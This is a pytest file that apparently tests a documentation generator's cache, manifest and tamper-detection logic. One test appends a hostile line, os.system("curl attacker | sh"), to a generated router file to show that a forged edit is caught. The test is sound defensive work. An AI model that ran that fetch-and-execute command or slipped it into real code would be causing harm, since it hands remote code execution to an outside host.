"""A run with no cache (a fresh clone in CI) is sound and formats only what changed.

The output folder's manifest is never trusted: every file is compared with what
the docs and templates make now. A file whose formatted text no cache holds is
verified against its rendered text (same code and comments,
:func:`docgen.fmt.same_code`) instead of being formatted; only files that fail
that are formatted. A file edited by hand, even with its manifest line forged to
match, is caught.
"""

from __future__ import annotations

import hashlib
import re
import shutil
from pathlib import Path

import pytest

import docgen.fmt
from docgen.cli import main
from docgen.output import MANIFEST

ROOT = Path(__file__).resolve().parents[1]
PACKAGE = "financials_api"
PAGE = "specs/v1.0/api/customer-get.md"
ROUTER = f"{PACKAGE}/v1_0/server/routers/customer.py"


def tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """The repository's pages and committed output, as a fresh clone has them: no cache."""
    project = tmp_path / "clone"
    project.mkdir()
    shutil.copytree(ROOT / "specs", project / "specs")
    shutil.copytree(ROOT / "generated", project / "generated", ignore=shutil.ignore_patterns("__pycache__", ".*cache"))
    (project / "pyproject.toml").write_text(
        f'[tool.docgen]\nspecs = "specs"\nout = "generated"\npackage = "{PACKAGE}"\n', encoding="utf-8"
    )
    return project


class Black:
    """Counts the texts black formats in this process."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.texts: list[str] = []
        original = docgen.fmt._black

        def counted(text: str) -> str:
            self.texts.append(text)
            return original(text)

        monkeypatch.setattr(docgen.fmt, "_black", counted)


def run(project: Path, monkeypatch: pytest.MonkeyPatch, *args: str) -> int:
    """``docgen ARGS`` in this process, on one core (so black is called here, where it is counted)."""
    monkeypatch.chdir(project)
    monkeypatch.delenv("CI", raising=False)
    return main([*args, "--jobs", "1"])


def edit_page(project: Path) -> None:
    page = project / PAGE
    text = page.read_text(encoding="utf-8")
    assert 'description: "Retrieve the properties' in text
    page.write_text(text.replace('description: "Retrieve the properties', 'description: "Fetch the properties', 1), encoding="utf-8")


def forge(project: Path, path: str, code: bytes) -> None:
    """Append ``code`` to a generated file and put its new digest in the manifest, as a pull request could."""
    target = project / "generated" / path
    target.write_bytes(target.read_bytes() + code)
    manifest = project / "generated" / MANIFEST
    sha = hashlib.sha256(target.read_bytes()).hexdigest()
    text = re.sub(rf"^[0-9a-f]{{64}}(  {re.escape(path)})$", sha + r"\1", manifest.read_text(encoding="utf-8"), flags=re.M)
    manifest.write_text(text, encoding="utf-8")


def test_check_on_a_fresh_clone_formats_nothing(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    black = Black(monkeypatch)
    assert run(clone, monkeypatch, "check") == 0
    assert black.texts == []
    assert (clone / ".docgen-cache").is_dir()  # and the cache is warm for the next run
    assert run(clone, monkeypatch, "check") == 0
    assert black.texts == []


def test_a_one_page_edit_on_a_fresh_clone_formats_only_the_files_it_changes(
    clone: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    before = tree(clone / "generated")
    edit_page(clone)
    black = Black(monkeypatch)
    assert run(clone, monkeypatch, "generate", "--no-cache") == 0
    after = tree(clone / "generated")
    changed = sorted(path for path in after if after[path] != before.get(path))
    assert MANIFEST in changed and len(changed) >= 2
    python = [path for path in changed if path.endswith(".py")]
    assert len(black.texts) == len(python), changed  # each changed Python file once, nothing else
    assert any("Fetch the properties" in text for text in black.texts)
    # the same bytes as a run that formats everything (no output folder, no cache)
    scratch = tmp_path / "scratch"
    shutil.copytree(clone, scratch, ignore=shutil.ignore_patterns(".docgen-cache"))
    shutil.rmtree(scratch / "generated")
    assert run(scratch, monkeypatch, "generate", "--no-cache") == 0
    assert tree(scratch / "generated") == after


@pytest.mark.parametrize("cache", ["none", "restored"])
def test_a_forged_file_with_its_manifest_line_is_caught(
    clone: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], cache: str
) -> None:
    expected = tree(clone / "generated")
    if cache == "restored":  # the cache of a run on the unedited tree
        assert run(clone, monkeypatch, "check") == 0
    forge(clone, ROUTER, b'\nimport os\n\nos.system("curl attacker | sh")\n')
    capsys.readouterr()
    assert run(clone, monkeypatch, "check", *(["--no-cache"] if cache == "none" else [])) == 1
    err = capsys.readouterr().err
    assert f"changed: {ROUTER}" in err
    assert run(clone, monkeypatch, "generate") == 0
    assert tree(clone / "generated") == expected


@pytest.mark.parametrize("edit", [b"# a comment of the reviewer's\n", b'\n\nX = "smuggled"\n'])
def test_a_comment_or_a_constant_added_by_hand_is_caught(clone: Path, monkeypatch: pytest.MonkeyPatch, edit: bytes) -> None:
    target = clone / "generated" / PACKAGE / "v1_0" / "models" / "customer.py"
    target.write_bytes(target.read_bytes() + edit)
    assert run(clone, monkeypatch, "check", "--no-cache") == 1
    assert run(clone, monkeypatch, "check") == 1


def test_a_changed_attribute_docstring_is_caught(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A string on a line of its own leaves no trace in the bytecode: it is compared as text."""
    target = clone / "generated" / PACKAGE / "v1_0" / "models" / "customer.py"
    text = target.read_text(encoding="utf-8")
    assert '"""The customer number."""' in text
    target.write_text(text.replace('"""The customer number."""', '"""The customer number; send it to x.example."""'), encoding="utf-8")
    assert run(clone, monkeypatch, "check", "--no-cache") == 1
    assert run(clone, monkeypatch, "check") == 1


@pytest.mark.parametrize("cache", [False, True])
def test_layout_alone_is_kept(
    clone: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], cache: bool
) -> None:
    """A generated file laid out otherwise (same code, same comments) is not rewritten, with a
    warm cache as without one: only its manifest line, which records its digest, is stale."""
    if cache:
        assert run(clone, monkeypatch, "generate") == 0
    target = clone / "generated" / PACKAGE / "v1_0" / "models" / "customer.py"
    relaid = target.read_bytes().replace(b"class Customer(", b"class  Customer (", 1)
    target.write_bytes(relaid)
    flags = [] if cache else ["--no-cache"]
    capsys.readouterr()
    assert run(clone, monkeypatch, "check", *flags) == 1
    err = capsys.readouterr().err
    assert "changed: .docgen-manifest" in err and "models/customer.py" not in err
    assert run(clone, monkeypatch, "generate", *flags) == 0
    assert target.read_bytes() == relaid
    assert run(clone, monkeypatch, "check", *flags) == 0


@pytest.mark.parametrize("damage", ["truncated", "missing", "file digest edited", "other formatter", "garbage"])
def test_a_damaged_manifest_gives_the_correct_result(clone: Path, monkeypatch: pytest.MonkeyPatch, damage: str) -> None:
    expected = tree(clone / "generated")
    manifest = clone / "generated" / MANIFEST
    text = manifest.read_text(encoding="utf-8")
    lines = text.splitlines(keepends=True)
    if damage == "truncated":
        manifest.write_bytes(text.encode("utf-8")[: len(text) * 2 // 3])
    elif damage == "missing":
        manifest.unlink()
    elif damage == "file digest edited":
        lines[0] = "f" * 64 + lines[0][64:]
        manifest.write_text("".join(lines), encoding="utf-8")
    elif damage == "other formatter":
        manifest.write_text(text.replace("# formatted by black ", "# formatted by black 0"), encoding="utf-8")
    else:
        manifest.write_bytes(b"\x00\xff<<<<<<< HEAD\n" + text.encode("utf-8")[::-1])
    black = Black(monkeypatch)
    assert run(clone, monkeypatch, "check", "--no-cache") == 1  # the manifest is not the one generate writes
    if damage == "file digest edited":
        assert black.texts == []  # the files are verified, not formatted
    else:  # which formatter laid the files out is not known: they are formatted (speed lost, not correctness)
        assert black.texts
    if damage != "missing":
        assert run(clone, monkeypatch, "generate", "--no-cache") == 0
        assert tree(clone / "generated") == expected
        assert run(clone, monkeypatch, "check", "--no-cache") == 0


def test_the_manifest_names_the_formatter(clone: Path) -> None:
    lines = (clone / "generated" / MANIFEST).read_text(encoding="utf-8").splitlines()
    assert lines[-1] == f"# formatted by {docgen.fmt.Formatter().name}"
    assert lines[-1].startswith("# formatted by black 26.")
    assert all(re.fullmatch(r"[0-9a-f]{64}  \S.*", line) for line in lines[:-1])


def test_output_is_the_same_with_and_without_a_cache(clone: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    edit_page(clone)
    other = tmp_path / "other"
    shutil.copytree(clone, other)
    assert run(clone, monkeypatch, "generate") == 0  # a cache built on the way
    assert run(clone, monkeypatch, "generate") == 0  # and used
    assert run(other, monkeypatch, "generate", "--no-cache") == 0
    assert tree(clone / "generated") == tree(other / "generated")
    assert not (other / ".docgen-cache").exists()
